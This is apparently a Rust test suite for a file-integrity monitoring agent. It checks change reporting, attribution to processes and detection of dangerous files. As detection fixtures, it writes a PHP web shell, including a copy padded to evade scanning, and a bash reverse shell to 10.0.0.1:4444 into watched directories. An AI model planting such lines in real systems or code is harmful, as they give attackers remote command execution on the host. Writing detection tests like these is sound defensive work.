//! A running agent and the files of the baseline: what changes is told at once, with who did it; what is dangerous becomes an incident.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, clippy::print_stderr)] // a test fails by panic

mod support;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

use serde_json::Value;

use support::agent::{Home, told};
use support::{can_run, wait_for};

/// What a web shell looks like.
const WEBSHELL: &str = "<?php system($_POST[1]); ?>";

/// A home with a tree, a baseline of it, and an agent that has begun to watch it.
struct Place {
    home: Home,
}

impl Place {
    fn new(directories: &[&str]) -> Self {
        let home = Home::new(None);
        fs::set_permissions(home.directory.path(), fs::Permissions::from_mode(0o755)).unwrap();
        let place = Self { home };
        directories.iter().for_each(|name| fs::create_dir_all(place.at(name)).unwrap());
        place
    }

    fn at(&self, name: &str) -> PathBuf {
        self.home.directory.path().canonicalize().unwrap().join(name)
    }

    fn baseline(&self, name: &str) {
        let output = self.home.run(&["fim", "scan", "--baseline", self.at(name).to_str().unwrap()]);
        assert_eq!(output.status.code(), Some(0), "{}", told(&output));
    }

    /// Waits until the agent watches, and has looked at everything.
    fn watched(&self) {
        let ready = || {
            let watched = self.home.json(&["fim", "status"]).pop()?["watched"].clone();
            (watched["directories"].as_u64()? > 0 && watched["to_look_at"] == 0).then_some(())
        };
        wait_for("the agent to watch", Duration::from_secs(10), ready, || format!("{:?}", self.home.json(&["fim", "status"])));
    }

    /// What was told of files: path, sentence, the whole event.
    fn told(&self) -> Vec<(String, String, Value)> {
        let events = self.home.json(&["events", "--kind", "file.change", "--where", "file.integrity.sentence=*", "--limit", "1000"]);
        let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
        events.into_iter().map(|event| (text(&event["file"]["path"]), text(&event["file"]["integrity"]["sentence"]), event)).collect()
    }

    fn wait(&self, path: &str, sentence: &str) -> Value {
        let path = self.at(path).display().to_string();
        let found = || {
            let mut told = self.told().into_iter();
            told.find(|(known, said, _)| *known == path && said.contains(sentence)).map(|(_, _, event)| event)
        };
        wait_for(&format!("{path}: {sentence}"), Duration::from_secs(10), found, || format!("{:#?}", self.lines()))
    }

    fn lines(&self) -> Vec<String> {
        self.told().into_iter().map(|(path, sentence, _)| format!("{path}: {sentence}")).collect()
    }

    fn shell(&self, script: &str) {
        assert!(Command::new("/bin/sh").current_dir(self.at("")).args(["-c", script]).status().unwrap().success(), "{script}");
    }
}

fn is_root() -> bool {
    let root = nix::unistd::geteuid().is_root();
    if !root {
        eprintln!("skipped: needs root to see who does what");
    }
    root
}

/// A rule that is not done with any content in its time.
const SLOW_RULE: &str = "rule slow { condition: for all i in (0..1000000000) : (uint8(i % filesize) != 1) }";

#[test]
fn padding_beyond_64_mib_buys_a_webshell_nothing() {
    if !is_root() {
        return;
    }
    let place = Place::new(&["www"]);
    place.baseline("www");
    let _agent = place.home.start();
    place.watched();
    // Others keep the reader of long files busy.
    for number in 0..6 {
        place.shell(&format!("head -c 80M /dev/zero | tr '\\0' x > www/a{number}"));
    }
    place.shell(&format!("(echo '{WEBSHELL}'; head -c 70M /dev/zero | tr '\\0' ' ') > z.php; mv z.php www/"));
    let told = place.wait("www/z.php", "long file");
    assert!(told["file"]["integrity"]["findings"][0]["technique"] == "T1505.003", "{told:#}");
    place.wait("www/z.php", "file added");
    let of_shell: Vec<_> = place.told().into_iter().filter(|(_, _, event)| event["file"]["integrity"]["findings"].is_array()).collect();
    assert_eq!(of_shell.len(), 1, "it is told once: {of_shell:#?}");
}

#[test]
fn what_comes_and_goes_is_not_said_to_be_unjudged() {
    if !is_root() {
        return;
    }
    let place = Place::new(&["www"]);
    place.baseline("www");
    let _agent = place.home.start();
    place.watched();
    place.shell(
        "n=0; while [ $n -lt 400 ]; do n=$((n+1)); echo $n > www/t$n; mkdir -p www/d$n/e; echo x > www/d$n/f; rm -r www/t$n www/d$n; done",
    );
    place.shell("echo last > www/last");
    place.wait("www/last", "file added");
    place.watched();
    let watched = place.home.json(&["fim", "status"]).pop().unwrap()["watched"].clone();
    assert_eq!(watched["unjudged_total"], 0, "{watched:#}");
}

#[test]
fn what_is_not_judged_is_told_with_its_name() {
    if !is_root() {
        return;
    }
    let place = Place::new(&["www"]);
    let rules = place.home.directory.path().join("rules");
    fs::create_dir_all(&rules).unwrap();
    fs::write(rules.join("slow.yar"), SLOW_RULE).unwrap();
    place.baseline("www");
    let _agent = place.home.start();
    place.watched();
    place.shell("echo anything > www/page.php; head -c 2M /dev/zero > www/image");
    place.wait("www/page.php", "not judged by all YARA rules");
    let status = told(&place.home.run(&["fim", "status"]));
    for wanted in ["www/page.php: not judged by all YARA rules", "only the first and last 512 KiB are judged", "www/image"] {
        assert!(status.contains(wanted), "{wanted}: {status}");
    }
    let health = told(&place.home.run(&["status"]));
    assert!(health.contains("not judged"), "{health}");
    ["www/page.php", "www/image"].iter().for_each(|path| fs::remove_file(place.at(path)).unwrap());
    let gone = || (place.home.json(&["fim", "status"]).pop()?["watched"]["unjudged"] == 0).then_some(());
    wait_for("what is gone to count no more", Duration::from_secs(10), gone, || told(&place.home.run(&["fim", "status"])));
}

#[test]
fn a_webshell_that_a_web_server_writes_is_an_incident_that_says_who_and_what() {
    if !is_root() || !can_run(&["setpriv"]) {
        return;
    }
    let place = Place::new(&["www/uploads"]);
    fs::write(place.at("www/index.php"), "<?php echo 'hello';\n").unwrap();
    std::os::unix::fs::chown(place.at("www/uploads"), Some(33), Some(33)).unwrap();
    fs::copy("/bin/sh", place.at("php-fpm")).unwrap();
    place.baseline("www");
    let agent = place.home.start();
    place.watched();
    // A service of this name is a web server; what it starts writes the file.
    let write = format!("sh -c \"printf '%s' '{}' > www/uploads/a.php; sleep 0.3\"; sleep 0.3", WEBSHELL.replace('$', "\\$"));
    let php = ["--reuid", "33", "--regid", "33", "--clear-groups", "./php-fpm", "-c", &write];
    assert!(Command::new("setpriv").current_dir(place.at("")).args(php).status().unwrap().success());
    let event = place.wait("www/uploads/a.php", "file added");
    assert_eq!((event["process"]["uid"].as_u64(), event["file"]["integrity"]["late"].as_bool()), (Some(33), None), "{event:#}");
    assert_eq!(event["file"]["integrity"]["findings"][0]["technique"], "T1505.003");
    let path = place.at("www/uploads/a.php").display().to_string();
    let signal = || {
        let signals = place.home.json(&["signals", "--limit", "1000"]);
        signals.into_iter().find(|signal| signal["detector"] == "dangerous_file" && signal.to_string().contains(&path))
    };
    let signal = wait_for("the signal", Duration::from_secs(5), signal, || format!("{:#?}", place.home.json(&["signals"])));
    assert!(signal["sentence"].as_str().unwrap().contains("php-fpm"), "{signal:#}");
    let incidents = || {
        let all = place.home.json(&["incidents"]);
        all.into_iter().find(|incident| incident.to_string().contains(&path))
    };
    wait_for("the incident", Duration::from_secs(5), incidents, || format!("{:#?}", place.home.json(&["incidents"])));
    assert!(place.home.json(&["actions"]).is_empty(), "it is experimental: it does nothing by itself");
    assert_eq!(agent.stop().code(), Some(0));
}

#[test]
fn changes_are_told_once_with_who_and_those_of_one_act_are_one_line() {
    if !is_root() || !can_run(&["dpkg", "dpkg-deb"]) {
        return;
    }
    let place = Place::new(&["tree/etc", "tree/usr", "tree/var/lib/dpkg/info", "tree/var/lib/dpkg/updates", "package/DEBIAN"]);
    fs::write(place.at("tree/etc/settings"), "one\ntwo\n").unwrap();
    fs::write(place.at("tree/etc/other"), "as it was\n").unwrap();
    fs::write(place.at("tree/var/lib/dpkg/status"), "").unwrap();
    for name in ["usr/bin", "usr/share/doc", "etc/hello.d"] {
        fs::create_dir_all(place.at("package").join(name)).unwrap();
        for number in 0..3 {
            fs::write(place.at("package").join(name).join(format!("f{number}")), "x\n").unwrap();
        }
    }
    let control = "Package: hello-fim\nVersion: 1\nArchitecture: all\nMaintainer: nobody <n@example.org>\nDescription: a test\n";
    fs::write(place.at("package/DEBIAN/control"), control).unwrap();
    place.shell("dpkg-deb --build package hello.deb >/dev/null");
    for name in ["tree/etc", "tree/usr"] {
        place.baseline(name);
    }
    let agent = place.home.start();
    place.watched();

    // An editor writes a new file and renames it over the old one.
    place.shell("sed -i s/two/three/ tree/etc/settings; sleep 0.3");
    let event = place.wait("tree/etc/settings", "content changed");
    assert_eq!(event["process"]["uid"], 0, "{event:#}");
    assert!(!place.lines().iter().any(|line| line.contains("/sed") || line.contains("removed")), "{:#?}", place.lines());

    // Written and put back within a moment.
    place
        .shell("cp -p tree/etc/other kept; echo evil > tree/etc/other; cat kept > tree/etc/other; touch -r kept tree/etc/other; sleep 0.1");
    let line = || place.lines().into_iter().find(|line| line.contains("/etc/other"));
    wait_for("what was put back", Duration::from_secs(5), line, || format!("{:#?}", place.lines()));

    // Five hundred files of one act.
    place.shell("mkdir tree/etc/many; sleep 0.3; for n in $(seq 500); do echo $n > tree/etc/many/$n; done; sleep 0.5");
    place.wait("tree/etc/many", "");
    let count = || {
        let of: Vec<(u64, String)> = place
            .told()
            .into_iter()
            .filter(|(path, ..)| path.contains("/many"))
            .map(|(path, said, event)| (event["file"]["integrity"]["changes"].as_u64().unwrap(), format!("{path}: {said}")))
            .collect();
        (of.iter().map(|(changes, _)| changes).sum::<u64>() >= 501).then_some(of)
    };
    let many = wait_for("all of them", Duration::from_secs(5), count, || format!("{:#?}", place.lines()));
    assert!(many.len() <= 4, "{many:#?}");

    // A package.
    place.shell("dpkg --root=tree --force-not-root --log=/dev/null -i hello.deb >/dev/null 2>&1");
    let package = || place.told().into_iter().find(|(_, sentence, _)| sentence.contains("at work"));
    let (_, sentence, event) = wait_for("the package", Duration::from_secs(15), package, || format!("{:#?}", place.lines()));
    assert!(sentence.contains("dpkg") && event["file"]["integrity"]["changes"].as_u64().unwrap() >= 9, "{sentence}");
    let of_package = |line: &&String| line.contains("hello.d") || line.contains("dpkg-new");
    assert_eq!(place.lines().iter().filter(of_package).count(), 0, "{:#?}", place.lines());
    assert!(!place.home.json(&["signals"]).iter().any(|signal| signal["detector"] == "dangerous_file"));

    // While no agent runs; and nothing is told twice.
    let before = place.lines().len();
    assert_eq!(agent.stop().code(), Some(0));
    fs::write(place.at("tree/etc/missed.php"), WEBSHELL).unwrap();
    let agent = place.home.start();
    let late = place.wait("tree/etc/missed.php", "file added");
    assert_eq!(late["file"]["integrity"]["late"], true, "{late:#}");
    place.watched();
    assert_eq!(agent.stop().code(), Some(0));
    let _agent = place.home.start();
    place.watched();
    std::thread::sleep(Duration::from_millis(700));
    let after = place.lines();
    assert_eq!(after.len(), before + 1, "{after:#?}");
}

#[test]
fn rules_of_ours_and_of_a_pack_judge_what_is_new_by_a_scan_and_while_the_agent_runs() {
    if !is_root() {
        return;
    }
    let place = Place::new(&["srv", "rules/pack"]);
    fs::write(
        place.at("rules/pack/a.yar"),
        "rule marked { meta: description = \"a mark\" strings: $a = \"MARK-OF-A-PACK\" condition: $a }",
    )
    .unwrap();
    fs::write(place.at("rules/pack/bad.yar"), "rule bad { condition: nobody_knows }").unwrap();
    let shell = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n";
    fs::write(place.at("srv/known.sh"), shell).unwrap();
    fs::write(place.at("srv/long.bin"), vec![b'.'; 3 << 20]).unwrap();
    place.baseline("srv");
    fs::write(place.at("srv/known.sh"), format!("{shell}# it was there before\n")).unwrap();
    fs::write(place.at("srv/new.sh"), shell).unwrap();
    fs::write(place.at("srv/marked"), "here is the MARK-OF-A-PACK").unwrap();
    // In the last bytes of a file that is longer than what is judged whole.
    fs::write(place.at("srv/long.bin"), [&vec![b'.'; 3 << 20][..], b"\n", shell.as_bytes()].concat()).unwrap();
    let output = place.home.run(&["fim", "scan"]);
    let said = told(&output);
    assert_eq!(output.status.code(), Some(5), "{said}");
    assert!(said.contains("YARA rules of pack/bad.yar are refused: line 1") && said.contains("nobody_knows"), "{said}");
    let dangers: Vec<&str> = said.lines().filter(|line| line.contains("DANGER ")).collect();
    assert_eq!(dangers.len(), 3, "{said}");
    assert!(dangers[0].contains("srv/long.bin: it connects out and gives a shell to the other end (T1059.004)"), "{said}");
    assert!(dangers[1].ends_with("srv/marked: it matches the YARA rule marked of pack/a.yar: a mark"), "{said}");
    assert!(dangers[2].contains("srv/new.sh: it connects out"), "{said}");

    let agent = place.home.start();
    place.watched();
    fs::write(place.at("srv/later.sh"), shell).unwrap();
    let event = place.wait("srv/later.sh", "file added");
    assert_eq!(event["file"]["integrity"]["findings"][0]["rule"], "reverse_shell_in_a_shell_script", "{event:#}");
    let signal = || {
        let signals = place.home.json(&["signals", "--limit", "1000"]);
        signals.into_iter().find(|signal| signal["detector"] == "dangerous_file" && signal.to_string().contains("srv/later.sh"))
    };
    wait_for("the signal", Duration::from_secs(5), signal, || format!("{:#?}", place.home.json(&["signals"])));
    let marked = place.wait("srv/marked", "file added");
    assert_eq!(marked["file"]["integrity"]["findings"][0]["rule"], "marked", "found by looking again: {marked:#}");
    assert_eq!(agent.stop().code(), Some(0));
}
